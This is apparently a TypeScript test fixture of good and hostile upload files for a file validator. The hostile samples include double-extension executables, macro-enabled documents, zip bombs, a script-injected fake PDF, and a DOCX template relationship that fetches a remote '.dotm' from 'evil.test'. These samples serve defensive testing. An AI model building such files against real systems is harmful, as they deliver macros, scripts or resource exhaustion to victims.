/** Files that are not taken, each with why; and those that are. */
import type { FileProblem } from './file-problem.ts'
import { docxWith, zipOf } from './zip.fixture.ts'

type Given = { name: string; content: Buffer<ArrayBuffer> }

const pdf = bytes('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n')
const zeros = (size: number) => Buffer.alloc(size)
const template =
  '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.test/a.dotm" TargetMode="External"/></Relationships>'

export const goodFiles: Given[] = [
  { name: 'brief.pdf', content: pdf },
  { name: 'Job description v1.2 (final).docx', content: docxWith() },
  { name: 'brief.txt', content: bytes('Two people, from January.\r\nÄußerst wichtig.') },
  { name: 'BRIEF.MD', content: bytes('# Two people\n\n- Go\n') },
  { name: 'ansi.txt', content: Buffer.from('Grüße aus Köln', 'latin1') },
]

export const hostileFiles: (Given & { problem: FileProblem })[] = [
  { name: 'setup.exe', content: bytes('MZ'), problem: 'wrong-type' },
  { name: 'brief.pdf.exe', content: pdf, problem: 'two-endings' },
  { name: 'brief.exe.pdf', content: pdf, problem: 'two-endings' },
  { name: 'brief.html.txt', content: bytes('<script>alert(1)</script>'), problem: 'two-endings' },
  { name: 'macro.docm', content: docxWith(), problem: 'wrong-type' },
  { name: '.pdf', content: pdf, problem: 'wrong-type' },
  { name: 'brief', content: pdf, problem: 'wrong-type' },
  { name: 'empty.pdf', content: zeros(0), problem: 'empty' },
  { name: 'page.pdf', content: bytes('<html><script>alert(1)</script></html>'), problem: 'wrong-type' },
  { name: 'program.txt', content: Buffer.concat([bytes('MZ'), zeros(512)]), problem: 'wrong-type' },
  {
    name: 'picture.md',
    content: Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
    problem: 'wrong-type',
  },
  { name: 'cut.pdf', content: bytes(`%PDF-1.7\n${'x'.repeat(9000)}`), problem: 'damaged' },
  {
    name: 'locked.pdf',
    content: bytes('%PDF-1.7\ntrailer<</Encrypt 5 0 R/Root 1 0 R>>\n%%EOF'),
    problem: 'password',
  },
  {
    name: 'locked.docx',
    content: Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      zeros(1024),
      Buffer.from('EncryptedPackage', 'utf16le'),
    ]),
    problem: 'password',
  },
  {
    name: 'locked-parts.docx',
    content: docxWith([{ name: 'word/a.xml', content: bytes('a'), isEncrypted: true }]),
    problem: 'password',
  },
  {
    name: 'macro.docx',
    content: docxWith([{ name: 'word/vbaProject.bin', content: zeros(99) }]),
    problem: 'macros',
  },
  {
    name: 'template.docx',
    content: docxWith([{ name: 'word/_rels/settings.xml.rels', content: bytes(template) }]),
    problem: 'macros',
  },
  {
    name: 'bomb.docx',
    content: docxWith([{ name: 'word/big.xml', content: zeros(60 * 1024 * 1024) }]),
    problem: 'damaged',
  },
  {
    name: 'liar.docx',
    content: docxWith([{ name: 'word/big.xml', content: zeros(20 * 1024 * 1024), claimedSize: 1000 }]),
    problem: 'damaged',
  },
  {
    name: 'crowd.docx',
    content: zipOf(Array.from({ length: 2500 }, (_, index) => ({ name: `a${index}`, content: zeros(1) }))),
    problem: 'damaged',
  },
  { name: 'archive.docx', content: zipOf([{ name: 'a.exe', content: bytes('MZ') }]), problem: 'wrong-type' },
  { name: 'half.docx', content: docxWith().subarray(0, 120), problem: 'damaged' },
  { name: 'big.pdf', content: Buffer.concat([pdf, zeros(5 * 1024 * 1024)]), problem: 'too-big' },
]

function bytes(text: string): Buffer<ArrayBuffer> {
  return Buffer.from(text)
}
